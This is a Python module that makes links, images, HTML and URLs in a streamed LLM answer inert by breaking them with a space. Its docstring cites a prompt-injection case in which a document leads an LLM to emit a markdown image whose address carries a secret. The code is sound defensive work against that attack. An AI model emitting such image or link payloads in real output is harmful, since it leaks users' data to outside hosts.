"""Makes links, images and HTML in an answer inert as it streams.

Whatever any renderer would turn into something that opens or loads an address is broken by one space, wherever it
stands, in code too: a document that talks an LLM into `![x](https://host/?secret)` has it shown, never fetched. What
is released does not depend on how the text was cut into pieces, and doing it twice changes nothing.
"""

from __future__ import annotations

import re

_LIVE = re.compile(
    r"!(?=\[)"  # an image
    r"|\](?=[(:])"  # a link, the definition of one
    r"|<(?=[a-z/!?])"  # HTML, an address in angle brackets
    r"|&(?=#|(?:colon|sol|period|lt|excl|lsqb|lbrack|rsqb|rbrack|lpar|bsol|commat);)"  # any of these in disguise
    r"|(?:https?|ftps?|wss?|file)\\?:(?:\\?/){2}(?=\S)|\bwww\\?\.(?=\S)",  # what front ends make links of by themselves
    re.IGNORECASE,
)

_MAX_CONSTRUCT = 16
"""More characters than any of these has with what must follow it; none has white space within."""


class InertFilter:
    """Releases streamed text with everything live in it broken."""

    def __init__(self) -> None:
        self._held = ""
        self._before = ""
        """The last character that was released: whether a word begins depends on it."""

    def feed(self, delta: str) -> str:
        """Take the next piece of text; return what can be shown now."""
        text = self._held + delta
        word_start = max(text.rfind(" "), text.rfind("\n")) + 1
        cut = max(word_start, len(text) - _MAX_CONSTRUCT)
        for match in _LIVE.finditer(self._before + text):
            start, end = match.start() - len(self._before), match.end() - len(self._before)
            if start < cut < end:
                cut = start
        return self._release(text, cut)

    def finish(self) -> str:
        """Return the rest, once there is no more to come."""
        return self._release(self._held, len(self._held))

    def _release(self, text: str, cut: int) -> str:
        self._held = text[cut:]
        size = len(self._before)
        pieces = []
        at = 0
        for match in _LIVE.finditer(self._before + text):
            end = match.end() - size
            if end > cut:
                break
            if end <= 0:
                continue  # Broken already, when it was released.
            pieces.append(text[at:end] + " ")
            at = end
        released = "".join(pieces) + text[at:cut]
        self._before = text[cut - 1 : cut] or self._before
        return released


def make_inert(text: str) -> str:
    """Return the whole of a text, made inert."""
    inert = InertFilter()
    return inert.feed(text) + inert.finish()
